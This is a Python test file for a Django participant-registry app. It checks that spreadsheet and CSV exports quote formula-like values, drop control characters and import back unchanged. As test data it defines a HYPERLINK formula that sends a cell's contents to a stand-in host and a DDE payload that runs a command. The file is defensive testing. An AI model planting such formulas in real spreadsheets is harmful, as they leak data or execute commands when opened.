"""The participant file and the national export through the web: no formulas, no crash on
stored control characters, and a round trip that keeps formula-like text (issue 12)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from django_scopes import scope, scopes_disabled
from openpyxl import load_workbook

from participants.models import Insats, Participant, Participation
from participants.services import import_participants, write_participants

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Klicka här")'
DDE = "=cmd|' /C calc'!A0"


def export(client, file_format: str) -> bytes:
    path = reverse("participants:export", kwargs={"forbund": "alfa"})
    response = client.get(path, {"format": file_format, "year": ""})
    assert response.status_code == 200
    return response.content


def no_formulas(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name


def store(world, code: str, municipality: str) -> None:
    """Values as an old import may have stored them (validators bypassed)."""
    participation = world.extra["participation_a1"]
    with scopes_disabled():
        Participant.objects.filter(pk=participation.participant_id).update(code=code)
        Participation.objects.filter(pk=participation.pk).update(municipality=municipality)


def test_stored_control_characters_do_not_break_the_xlsx_export(world, clients):
    store(world, "A1\x01-0001", "Tä\x0bby")
    data = export(clients["kansli"], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    row = next(r for r in rows if r[1] == "A1")
    assert (row[0], row[6]) == ("A1-0001", "Täby")


def test_stored_control_characters_do_not_break_the_csv_export(world, clients):
    store(world, "A1\x01-0001", "Tä\x0bby")
    text = export(clients["kansli"], "csv").decode("utf-8-sig")
    assert "\x01" not in text and "\x0b" not in text
    assert "A1-0001;A1;" in text


def test_formula_like_values_are_exported_as_quoted_text(world, clients):
    store(world, "-1234", HYPERLINK)
    data = export(clients["kansli"], "xlsx")
    no_formulas(data)
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == "A1")
    assert (row[0].value, row[0].data_type) == ("'-1234", "s")
    assert (row[6].value, row[6].data_type) == ("'" + HYPERLINK, "s")
    assert (row[3].value, row[3].data_type) == (1990, "n")  # numbers stay numbers
    records = list(csv.reader(io.StringIO(export(clients["kansli"], "csv").decode("utf-8-sig"))))
    line = next(r[0] for r in records if ";A1;" in r[0])
    assert line.startswith("'-1234;A1;")


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_an_export_with_formula_like_values_imports_again_unchanged(world, file_format):
    store(world, "-1234", HYPERLINK)
    out = io.BytesIO()
    write_participants(world.a, out, file_format)
    result = import_participants(world.a, out.getvalue(), f"deltagare.{file_format}")
    assert result.ok, result.errors
    assert (result.created, result.updated, result.new_participants) == (0, 0, 0)
    with scope(forbund=world.a):
        assert Participation.objects.filter(
            participant__code="-1234", municipality=HYPERLINK
        ).exists()


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_the_national_export_quotes_insats_names(world, clients, file_format):
    with scopes_disabled():
        Insats.objects.filter(pk=world.insats_a1.pk).update(name=DDE + "\x01")
    path = reverse(f"economy:national_{file_format}", kwargs={"forbund": "alfa", "year": 2024})
    response = clients["kansli"].get(path)
    assert response.status_code == 200
    if file_format == "xlsx":
        no_formulas(response.content)
        sheet = load_workbook(io.BytesIO(response.content))["Insatser"]
        names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    else:
        records = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
        names = [record[1] for record in list(records)[1:]]
    assert "'" + DDE in names


def test_an_upload_with_control_characters_is_refused_in_swedish_and_writes_nothing(
    world, clients, settings, tmp_path
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from samples.participant_rows import csv_bytes, row

    settings.VAR_DIR = tmp_path
    with scope(forbund=world.a):
        before = Participation.objects.count()
    data = csv_bytes([row(deltagar_id="ALFA\x01-1"), row(deltagar_id="ALFA-2", kommun="Tä\x0bby")])
    response = clients["kansli"].post(
        reverse("participants:import", kwargs={"forbund": "alfa"}),
        {"file": SimpleUploadedFile("deltagare.csv", data)},
    )
    assert response.status_code == 200
    assert [(e.row, e.column, e.value) for e in response.context["errors_shown"]] == [
        (2, "deltagar_id", "ALFA<U+0001>-1"),
        (3, "kommun", "Tä<U+000B>by"),
    ]
    page = response.content.decode()
    assert "otillåtet tecken" in page and "\x01" not in page and "\x0b" not in page
    with scope(forbund=world.a):
        assert Participation.objects.count() == before
